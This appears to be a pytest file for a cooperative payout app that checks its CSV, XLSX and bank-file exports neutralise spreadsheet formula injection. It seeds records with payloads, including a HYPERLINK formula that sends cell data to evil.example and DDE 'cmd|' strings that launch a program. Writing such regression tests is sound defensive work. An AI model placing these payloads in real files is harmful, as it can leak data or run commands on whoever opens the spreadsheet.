"""Formula strings flowing into every export: no CSV cell starts a formula, no XLSX cell
is a formula (issue 20, item 3). Names, bank names and bank refs are what a member, a
manager or a bank result file can set."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import select

from coop.csvfile import safe_cell, to_bytes
from coop.payouts.models import PayoutLine
from tests.reports.builders import YEAR, payout_world

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def poisoned(db, make):
    """The reports' payout world with a formula in every free-text column of every line."""
    world = payout_world(make, db.session)
    lines = db.session.execute(select(PayoutLine).order_by(PayoutLine.id)).scalars().all()
    for n, line in enumerate(lines):
        formula = FORMULAS[n % len(FORMULAS)]
        line.payee_name = formula
        line.bank_name = FORMULAS[(n + 1) % len(FORMULAS)]
        if line.status == "paid":
            line.bank_ref = FORMULAS[(n + 2) % len(FORMULAS)]
    db.session.commit()
    return world


def _csv_cells(raw: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
            for c in row]


def _assert_no_formula(cells):
    for cell in cells:
        if cell.startswith(FORMULA_START):
            # A number (a reversal's -12.50) is the only thing that may start with "-".
            assert cell.lstrip("-").replace(".", "", 1).isdigit(), cell


def test_payout_report_csv_neutralises_formulas(client, poisoned, make):
    headers = make.login("county_finance", poisoned.county)[1]
    resp = client.get("/api/v1/reports/payouts", headers=headers, query_string={
        "scope": "county", "id": poisoned.county.id, "year": YEAR, "format": "csv"})
    assert resp.status_code == 200
    cells = _csv_cells(resp.get_data())
    _assert_no_formula(cells)
    # The text is kept, shown as text: nothing is lost.
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells
    assert any(c.startswith("-") for c in cells)  # the reversal's negative amount


def test_payout_report_xlsx_has_no_formula_cell(client, poisoned, make):
    headers = make.login("county_finance", poisoned.county)[1]
    resp = client.get("/api/v1/reports/payouts", headers=headers, query_string={
        "scope": "county", "id": poisoned.county.id, "year": YEAR, "format": "xlsx"})
    assert resp.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(resp.get_data()))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert "@SUM(1)" in texts  # stored as a string cell, inert


def test_bank_file_neutralises_formulas(client, poisoned, db, make):
    coop = poisoned.coops[1]
    batch_id = db.session.execute(select(PayoutLine.batch_id).where(
        PayoutLine.cooperative_id == coop.id, PayoutLine.status == "pending")).scalars().first()
    headers = make.login("coop_manager", coop)[1]
    resp = client.get(f"/api/v1/payout-batches/{batch_id}/bank-file", headers=headers)
    assert resp.status_code == 200
    cells = _csv_cells(resp.get_data())
    _assert_no_formula(cells)
    assert any(c.startswith("'") for c in cells)


@pytest.mark.parametrize("text", FORMULAS)
def test_every_formula_start_is_neutralised_and_numbers_are_not(text):
    assert safe_cell(text) == "'" + text
    for number in ("-12.50", "0.00", "123", "-1"):
        assert safe_cell(number) == number
    assert to_bytes([["a", text]]).startswith(b"\xef\xbb\xbfa,")
